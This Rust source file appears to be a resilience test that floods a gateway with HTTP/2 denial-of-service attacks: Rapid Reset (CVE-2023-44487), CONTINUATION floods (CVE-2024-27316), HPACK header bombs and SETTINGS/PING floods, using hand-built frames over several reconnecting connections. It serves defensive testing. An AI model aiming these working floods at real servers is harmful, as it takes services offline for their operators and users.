//! Frames of HTTP/2 that cost their sender little.

use std::io::{Read as _, Write as _};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread;

use super::super::support::wire::Dial;
use super::on_several;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// How many connections a flood has.
const CONNECTIONS: usize = 4;

/// What is written at once: not more than one socket takes.
const PIECE: usize = 32 << 10;

/// `GET https://localhost/` (RFC 7541, appendix A).
const REQUEST: [u8; 14] = *b"\x82\x87\x84\x41\x09localhost";

/// Opens a stream and resets it, over and over (CVE-2023-44487).
pub(super) fn rapid_reset(dial: &Dial) -> String {
    flood(dial, |next, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &REQUEST);
        frame(out, RST_STREAM, 0, *next, &8_u32.to_be_bytes());
        *next += 2;
    })
}

/// Continues one head without end (CVE-2024-27316).
pub(super) fn continuation(dial: &Dial) -> String {
    let field = literal(0, &[b'y'; 1000]);
    flood(dial, move |next, out| {
        if *next == 1 {
            frame(out, HEADERS, END_STREAM, 1, &REQUEST);
            *next += 2;
        }
        frame(out, CONTINUATION, 0, 1, &field);
    })
}

/// Heads of 16 KiB that stand for 64 MiB: one large field, named again and again.
pub(super) fn hpack_bombs(dial: &Dial) -> String {
    const FIRST_OF_TABLE: u8 = 0x80 | 62;
    const WITH_INDEX: u8 = 0x40;
    let mut block = REQUEST.to_vec();
    block.extend(literal(WITH_INDEX, &[b'y'; 4000]));
    block.resize(16 << 10, FIRST_OF_TABLE);
    flood(dial, move |next, out| {
        frame(out, HEADERS, END_HEADERS | END_STREAM, *next, &block);
        *next += 2;
    })
}

/// Has the gateway acknowledge.
pub(super) fn settings_and_pings(dial: &Dial) -> String {
    flood(dial, |_, out| {
        frame(out, SETTINGS, 0, 0, &[]);
        frame(out, PING, 0, 0, &[7; 8]);
    })
}

/// Sends what a function writes, on connections that are opened again when the gateway closes them.
fn flood(dial: &Dial, write: impl Fn(&mut u32, &mut Vec<u8>) + Send + Sync + 'static) -> String {
    let (dial, opened) = (dial.clone(), std::sync::Arc::new(AtomicUsize::new(0)));
    let counted = std::sync::Arc::clone(&opened);
    let run = move |is_over: &AtomicBool| {
        let mut sent = 0;
        while !is_over.load(Ordering::Relaxed) {
            if let Ok(stream) = dial.tls(&["h2"]) {
                counted.fetch_add(1, Ordering::Relaxed);
                sent += on_one(stream, is_over, &write);
            }
        }
        sent
    };
    let sent = on_several(CONNECTIONS, run);
    let opened = opened.load(Ordering::Relaxed);
    format!("{} MiB on {opened} connections", sent >> 20)
}

/// The bytes that were sent before the gateway closed the connection, or the flood was over.
fn on_one(
    mut stream: super::TlsStream,
    is_over: &AtomicBool,
    write: impl Fn(&mut u32, &mut Vec<u8>),
) -> usize {
    let mut reader = stream.clone();
    let reading = thread::spawn(move || {
        let mut sink = vec![0; 64 << 10];
        while reader.read(&mut sink).is_ok_and(|read| read > 0) {}
    });
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    let (mut next, mut sent) = (1, 0);
    while !is_over.load(Ordering::Relaxed) {
        while out.len() < PIECE {
            write(&mut next, &mut out);
        }
        if stream.write_all(&out).is_err() || reading.is_finished() {
            break;
        }
        sent += out.len();
        out.clear();
    }
    let _ = stream.tcp().shutdown(std::net::Shutdown::Both);
    reading.join().unwrap();
    sent
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap();
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A field with the name `x`.
fn literal(first: u8, value: &[u8]) -> Vec<u8> {
    let mut field = vec![first, 1, b'x'];
    // The length, as an integer with a prefix of seven bits.
    let mut rest = value.len() - 127;
    field.push(127);
    while rest >= 128 {
        field.push(u8::try_from(rest % 128).unwrap() | 128);
        rest /= 128;
    }
    field.push(u8::try_from(rest).unwrap());
    field.extend_from_slice(value);
    field
}
